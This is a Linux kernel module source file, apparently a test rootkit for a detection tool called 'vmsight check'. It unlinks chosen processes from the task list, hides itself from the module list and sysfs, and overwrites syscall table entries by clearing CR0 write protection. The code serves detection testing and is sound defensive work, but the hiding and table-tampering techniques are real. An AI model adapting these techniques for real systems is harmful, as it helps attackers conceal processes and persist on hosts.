// SPDX-License-Identifier: GPL-2.0
/*
 * A test rootkit for `vmsight check`: it hides what public rootkits hide, the way they hide it.
 * Loaded only in the "rootkit" variant of the test guest (guests/init), never anywhere else.
 *
 *  - unlinks processes (module parameter hide_pids=PID,PID…) from the task list
 *    (task_struct.tasks); they stay in the PID namespace, so /proc still shows them, and a
 *    runnable one stays on its runqueue;
 *  - unlinks itself from the module list (THIS_MODULE->list); it stays in sysfs and in module
 *    memory, until 1 is written to /sys/module/vmsight_rk/parameters/hide_sysfs: then it
 *    deletes its sysfs kobject too (kobject_del(&THIS_MODULE->mkobj.kobj)), and only module
 *    memory still holds it;
 *  - overwrites sys_call_table[__NR_kill] and [__NR_getdents64] (and the same calls in the
 *    ia32 table) with its own functions, clearing CR0.WP around the writes. Debian's 6.1.176
 *    no longer dispatches through the table, so the hooks never run, but the table is altered.
 *
 * It prints what it did on the console as "VMSIGHT-RK key=value ..." lines for the test.
 */
#include <linux/kernel.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/workqueue.h>
#include <asm/unistd.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmsight test rootkit: hides a process and itself, hooks syscalls");

static int hide_pids[4];
static int hide_count;
module_param_array(hide_pids, int, &hide_count, 0);

static void unlink_sysfs(struct work_struct *work)
{
	kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("VMSIGHT-RK hid-sysfs name=%s\n", THIS_MODULE->name);
}
static DECLARE_WORK(sysfs_work, unlink_sysfs);

/*
 * The store runs inside the very sysfs directory it removes, and kernfs waits for that store to
 * return before removing it: a work item does the kobject_del. Only a live module has a kobject.
 */
static int set_hide_sysfs(const char *val, const struct kernel_param *kp)
{
	bool on;
	int err = kstrtobool(val, &on);

	if (err)
		return err;
	if (THIS_MODULE->state != MODULE_STATE_LIVE)
		return -EBUSY;
	if (on)
		schedule_work(&sysfs_work);
	return 0;
}
static const struct kernel_param_ops hide_sysfs_ops = { .set = set_hide_sysfs };
module_param_cb(hide_sysfs, &hide_sysfs_ops, NULL, 0200);

typedef unsigned long (*lookup_fn)(const char *name);
typedef long (*syscall_fn)(const struct pt_regs *);

/* Never called on this kernel (see above); they only have to be real functions in this module. */
static long rk_kill(const struct pt_regs *regs)
{
	return -EPERM;
}

static long rk_getdents64(const struct pt_regs *regs)
{
	return 0;
}

/* kallsyms_lookup_name is not exported since 5.7: a kprobe on it tells its address. */
static lookup_fn find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	lookup_fn fn;

	if (register_kprobe(&kp) < 0)
		return NULL;
	fn = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return fn;
}

/* write_cr0() pins WP since 5.3; rootkits write the register themselves. */
static inline void raw_write_cr0(unsigned long val)
{
	asm volatile("mov %0, %%cr0" : "+r"(val) : : "memory");
}

static void hook(unsigned long *table, const char *name, int nr, void *fn)
{
	unsigned long cr0 = read_cr0();

	preempt_disable();
	raw_write_cr0(cr0 & ~X86_CR0_WP);
	table[nr] = (unsigned long)fn;
	raw_write_cr0(cr0);
	preempt_enable();
	pr_info("VMSIGHT-RK hooked table=%s nr=%d\n", name, nr);
}

/* tasklist_lock is not exported either: it too comes from kallsyms_lookup_name. */
static void hide_task(rwlock_t *tasklist, int hide_pid)
{
	struct task_struct *task;

	rcu_read_lock();
	task = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
	if (task)
		get_task_struct(task);
	rcu_read_unlock();
	if (task && !tasklist)
		put_task_struct(task);
	if (!task || !tasklist) {
		pr_info("VMSIGHT-RK no-task pid=%d\n", hide_pid);
		return;
	}
	write_lock_irq(tasklist);
	/* list_del_init: the task's own later list_del_rcu at exit then finds a self-linked node. */
	list_del_init(&task->tasks);
	write_unlock_irq(tasklist);
	pr_info("VMSIGHT-RK hid-task pid=%d comm=%s\n", task->pid, task->comm);
	put_task_struct(task);
}

static int __init rk_init(void)
{
	lookup_fn lookup = find_lookup();
	unsigned long *table;
	int i;

	if (!lookup) {
		pr_info("VMSIGHT-RK error=no-kallsyms_lookup_name\n");
		return -ENOENT;
	}
	table = (unsigned long *)lookup("sys_call_table");
	if (table) {
		hook(table, "sys_call_table", __NR_kill, rk_kill);
		hook(table, "sys_call_table", __NR_getdents64, rk_getdents64);
	}
	table = (unsigned long *)lookup("ia32_sys_call_table");
	/* i386 numbers: kill 37, getdents64 220. */
	if (table) {
		hook(table, "ia32_sys_call_table", 37, rk_kill);
		hook(table, "ia32_sys_call_table", 220, rk_getdents64);
	}
	for (i = 0; i < hide_count; i++)
		hide_task((rwlock_t *)lookup("tasklist_lock"), hide_pids[i]);
	list_del(&THIS_MODULE->list);
	pr_info("VMSIGHT-RK hid-module name=%s\n", THIS_MODULE->name);
	pr_info("VMSIGHT-RK done\n");
	return 0;
}

module_init(rk_init);
